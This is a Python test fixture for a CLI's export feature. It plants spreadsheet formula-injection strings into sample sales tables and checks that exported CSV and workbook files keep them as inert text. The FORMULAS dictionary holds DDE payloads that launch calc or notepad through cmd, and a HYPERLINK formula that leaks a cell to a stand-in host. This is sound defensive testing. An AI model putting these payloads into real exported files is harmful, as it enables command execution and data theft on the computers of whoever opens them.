"""Hostile cases of the ``export`` area: text that a spreadsheet would run as a formula.

A small valid sample whose rep id, rep name, team, region, product and competitor start
with ``=``, ``+``, ``-``, ``@`` or a tab, plus one opportunity whose
amount is a formula (it is quarantined, and ``validate --quarantine-out`` writes that raw
cell). Every CSV and workbook the CLI writes must hold them as inert text, keep numbers
as numbers, and give the same bytes when run twice.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd

from tests.hostile import HostileCase, register

__all__ = ["FORMULAS", "formula_tables", "write_formula_folder", "BAD_AMOUNT"]

#: One formula per text field people type.
FORMULAS = {
    "rep_id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "name": '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "team": "+cmd|' /C notepad'!A0",
    "region": "-2+3+cmd|' /C calc'!A0",
    "product": "\t=1+1",
    "competitor": "=2+2+cmd|' /C calc'!A0",
}

#: The raw amount of the one opportunity that is quarantined.
BAD_AMOUNT = "=1+1"

#: The sample the formulas are put into.
SAMPLE = {"n_reps": 12, "months": 14, "seed": 2}


def _swap(frame: pd.DataFrame, column: str, old: str, new: str) -> pd.DataFrame:
    if column not in frame.columns:
        return frame
    return frame.assign(**{column: frame[column].where(frame[column].astype(str) != old, new)})


def formula_tables():
    """The sample tables with :data:`FORMULAS` in them; returns ``(tables, replaced)``."""
    from workbench.sample import generate_sample

    tables = {k: v for k, v in generate_sample(**SAMPLE).items() if k != "planted_drivers"}
    reps, opps = tables["reps"], tables["opportunities"]
    rep = str(reps["rep_id"].iloc[0])
    replaced = {
        "rep_id": rep,
        "name": rep,
        "team": str(reps["team"].iloc[0]),
        "region": str(reps["region"].iloc[0]),
        "product": str(opps["product"].value_counts().index[0]),
        "competitor": str(opps["competitor"].dropna().value_counts().index[0]),
    }
    for key, frame in tables.items():
        if not isinstance(frame, pd.DataFrame):
            continue
        for column in ("team", "region", "product", "competitor"):
            frame = _swap(frame, column, replaced[column], FORMULAS[column])
        for column in ("rep_id", "mentor_id"):
            frame = _swap(frame, column, replaced["rep_id"], FORMULAS["rep_id"])
        tables[key] = frame
    targets = tables["targets"]
    for field in ("rep_id", "team", "region"):
        targets = _swap(targets, "entity_id", replaced[field], FORMULAS[field])
    tables["targets"] = targets
    reps = tables["reps"]
    tables["reps"] = reps.assign(name=reps["name"].where(reps["rep_id"] != FORMULAS["rep_id"], FORMULAS["name"]))
    return tables, replaced


def write_formula_folder(folder: Path) -> dict:
    """Write :func:`formula_tables` as a data folder, one amount a formula; returns what was replaced."""
    from workbench.sample.writer import write_tables

    tables, replaced = formula_tables()
    paths = write_tables(tables, folder)
    lines = paths["opportunities"].read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    cells = lines[1].split(",")
    cells[header.index("amount")] = BAD_AMOUNT
    lines[1] = ",".join(cells)
    paths["opportunities"].write_text("\n".join(lines) + "\n", encoding="utf-8")
    return replaced


register(HostileCase(
    name="export-formula-cells",
    area="export",
    write=write_formula_folder,
    expect="every CSV and workbook the CLI writes holds the formulas as inert text (CSV: a leading apostrophe; "
           "xlsx: text cells with a quote prefix), numbers stay numbers, and two runs give the same bytes",
))
